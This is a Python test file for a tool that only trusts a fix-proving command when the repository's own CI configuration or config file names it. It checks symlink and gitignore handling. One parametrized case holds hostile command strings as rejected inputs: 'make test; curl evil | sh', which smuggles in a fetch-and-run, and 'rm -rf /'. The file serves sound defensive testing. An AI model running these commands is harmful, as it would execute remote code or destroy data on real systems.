"""Which command proves a fix: only one the repository itself names."""

import json
from pathlib import Path

import pytest

from factory_ls.factory.proving import commands_for
from factory_ls.git.runner import Git
from factory_ls.model.problem import Problem


def problem(command: str, job: str = "test") -> Problem:
    return Problem(id="1", path="a.py", line=1, tool="pytest", message="m", check=job, job=job, command=command)


async def commit(git: Git, repo: Path, **files: str) -> None:
    for name, text in files.items():
        path = repo / name.replace("__", "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    await git.run(repo, "add", "--all")


WORKFLOW = """\
jobs:
  test:
    steps:
      - run: make test
      - name: several
        run: |
          make   one
          make two
  lint: {"steps": [{"run": "x"}]}
"""


@pytest.mark.parametrize(
    ("command", "trusted"),
    [
        ("make test", True),
        ("make one\nmake two", True),
        ("make", False),
        ("make test; curl evil | sh", False),
        ("make one\nrm -rf /", False),
        ("run: make test", True),
    ],
)
async def test_a_command_from_a_log_must_stand_in_the_ci_configuration(
    git: Git, repo: Path, command: str, *, trusted: bool
) -> None:
    (repo / ".github").mkdir()
    (repo / ".github" / "ci.yml").write_text(WORKFLOW)
    await git.run(repo, "add", "--all")
    [found] = await commands_for(git, repo, ["test"], [problem(command)])
    assert (found.command == command) is trusted
    assert bool(found.why) is not trusted


async def test_a_json_workflow_counts_too(git: Git, repo: Path) -> None:
    (repo / ".github").mkdir()
    steps = {"jobs": {"test": {"steps": [{"run": 'python -c "print(1)"'}]}}}
    (repo / ".github" / "ci.yml").write_text(json.dumps(steps, indent=2))
    await git.run(repo, "add", "--all")
    [found] = await commands_for(git, repo, ["test"], [problem('python -c "print(1)"')])
    assert found.command == 'python -c "print(1)"'


async def test_the_repository_file_comes_first(git: Git, repo: Path) -> None:
    (repo / "factory-factory.json").write_text('{"checks": {"test": "make fast"}}')
    await git.run(repo, "add", "--all")
    [found] = await commands_for(git, repo, ["test"], [problem("make slow")])
    assert found.command == "make fast"


async def test_an_untracked_workflow_is_not_the_repositorys_word_when_ignored(git: Git, repo: Path) -> None:
    (repo / ".gitignore").write_text(".github\n")
    (repo / ".github").mkdir()
    (repo / ".github" / "ci.yml").write_text("- run: make evil\n")
    [found] = await commands_for(git, repo, ["test"], [problem("make evil")])
    assert found.command is None


async def test_a_link_out_of_the_tree_is_not_read(git: Git, repo: Path, tmp_path: Path) -> None:
    (tmp_path / "outside.yml").write_text("- run: make evil\n")
    (repo / ".github").mkdir()
    (repo / ".github" / "ci.yml").symlink_to(tmp_path / "outside.yml")
    await git.run(repo, "add", "--all")
    [found] = await commands_for(git, repo, ["test"], [problem("make evil")])
    assert found.command is None


async def test_a_check_without_a_command_says_what_to_do(git: Git, repo: Path) -> None:
    [found] = await commands_for(git, repo, ["docs"], [])
    assert found.command is None
    assert "factory-factory.json" in found.why
